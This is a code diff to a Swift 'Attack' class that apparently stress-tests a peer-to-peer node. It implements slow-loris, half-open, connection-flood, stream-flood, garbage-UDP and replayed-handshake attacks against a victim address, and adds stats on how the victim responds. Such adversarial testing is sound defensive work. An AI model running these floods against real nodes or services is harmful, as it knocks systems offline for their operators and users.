@@ -15,8 +15,11 @@ final class Attack {
 
     let loop: EventLoop
     let victim: PeerAddress
-    private var sockets: [Int32] = []
-    private var swarms: [Swarm] = []
+    private var sockets: [HostileSocket] = []
+    private var tally = SocketTally()
+    private var datagrams: Int32 = -1
+    private var peers: [HostilePeer] = []
+    private let began = EventLoop.monotonicNanos
     private var owners: [Junk] = []
     private var timers: [LoopTimer] = []
     private var relay: Relay?
@@ -27,16 +30,18 @@ final class Attack {
     }
 
     func start(_ name: String) throws {
+        every(50) { [self] in for socket in sockets { socket.look(&tally) } }
         switch name {
         case "slow-loris": every(20) { [self] in
             // A connection more, and one byte on each of the others.
             if sockets.count < 300 { connect() }
-            for (index, socket) in sockets.enumerated() { send(socket, [Self.multistream[index % Self.multistream.count]]) }
+            for (index, socket) in sockets.enumerated() { send(socket.descriptor, [Self.multistream[index % Self.multistream.count]]) }
         }
         case "half-open": every(5) { [self] in if sockets.count < 800 { connect() } }
         case "connection-flood": every(2) { [self] in
-            connect()
-            while sockets.count > 20 { close(sockets.removeFirst()) }
+            // As far as it takes to be answered.
+            if let socket = connect() { send(socket, Self.multistream) }
+            hangUp(20)
         }
         case "stream-flood": try swarm(4) { [self] swarm in
             every(5) { [self] in for _ in 0..<20 { open(swarm, Self.requests.randomElement()!, [Array("x".utf8)], closes: true) } }
@@ -70,12 +75,11 @@ final class Attack {
             let frame = Varint.encode(UInt64(rpc.bytes.count)) + rpc.bytes
             try gossip { [self] junk in every(100) { junk.send(frame) } }
         case "garbage-udp":
-            let socket = Glibc.socket(AF_INET, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
-            sockets.append(socket)
+            datagrams = Glibc.socket(AF_INET, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
             every(2) { [self] in
                 for _ in 0..<50 {
                     let size = Int.random(in: 1...1400)
-                    send(socket, (0..<size).map { _ in UInt8.random(in: .min ... .max) }, udp: true)
+                    send(datagrams, (0..<size).map { _ in UInt8.random(in: .min ... .max) }, udp: true)
                 }
             }
         case "garbage-handshakes": every(20) { [self] in
@@ -83,7 +87,7 @@ final class Attack {
             guard let socket = connect() else { return }
             let point = (0..<32).map { _ in UInt8.random(in: .min ... .max) }
             send(socket, Self.multistream + Self.noise + [0, 32] + point + [0, 200] + (0..<200).map { _ in UInt8.random(in: .min ... .max) })
-            while sockets.count > 50 { close(sockets.removeFirst()) }
+            hangUp(50)
         }
         case "replayed-handshakes":
             let relay = try Relay(loop, victim.socket)
@@ -92,7 +96,7 @@ final class Attack {
                 every(20) { [self] in
                     guard relay.recorded.count > 100, let socket = connect() else { return }
                     send(socket, relay.recorded)
-                    while sockets.count > 50 { close(sockets.removeFirst()) }
+                    hangUp(50)
                 }
             }
         case "unread-responses": try swarm(4) { [self] swarm in
@@ -104,10 +108,21 @@ final class Attack {
 
     func stop() {
         for timer in timers { timer.cancel() }
-        for swarm in swarms { swarm.stop() }
-        for socket in sockets { close(socket) }
+        for peer in peers { peer.swarm.stop() }
+        hangUp(0)
+        if datagrams >= 0 { close(datagrams) }
         relay?.stop()
         owners = []
+    }
+
+    /// What it saw of the victim: connections in bare TCP, and identities that connected in good order.
+    var stats: String {
+        let fields = [
+            ("sockets", tally.made), ("answered", tally.answered), ("cut", tally.cut), ("cut-answered", tally.cutAnswered), ("cut-late", tally.cutLate),
+            ("identities", peers.count), ("connected", peers.reduce(0) { $0 + $1.connected }), ("cut-identities", peers.count { $0.cut > 0 }),
+            ("seconds", Int((EventLoop.monotonicNanos - began) / 1_000_000_000)),
+        ]
+        return "stats " + fields.map { "\($0.0)=\($0.1)" }.joined(separator: " ")
     }
 
     // MARK: Means
@@ -124,9 +139,13 @@ final class Attack {
         let socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue) | Int32(SOCK_NONBLOCK.rawValue), 0)
         guard socket >= 0 else { return nil }
         withVictim { _ = Glibc.connect(socket, $0, $1) }
-        sockets.append(socket)
+        sockets.append(HostileSocket(socket))
+        tally.made += 1
         return socket
     }
+
+    /// On the oldest, until no more than `count` are left.
+    private func hangUp(_ count: Int) { while sockets.count > count { sockets.removeFirst().close(&tally) } }
 
     private func send(_ socket: Int32, _ bytes: [UInt8], udp: Bool = false) {
         if udp { withVictim { address, size in _ = sendto(socket, bytes, bytes.count, 0, address, size) } } else {
@@ -145,9 +164,10 @@ final class Attack {
     /// Proper connections of identities of their own; `connected` runs for each once it stands, and after it was cut and made again.
     private func swarm(_ count: Int, through: SocketAddress? = nil, _ connected: @escaping (Swarm) -> Void) throws {
         for _ in 0..<count {
-            let swarm = Swarm(loop: loop, key: NodeKey.generate(), configuration: SwarmConfiguration(agentVersion: "hostile"))
+            let peer = HostilePeer(loop)
+            let swarm = peer.swarm
             try swarm.start()
-            swarms.append(swarm)
+            peers.append(peer)
             let address = PeerAddress(id: victim.id, socket: through ?? victim.socket)
             var hasBegun = false
             every(200) { [victim] in
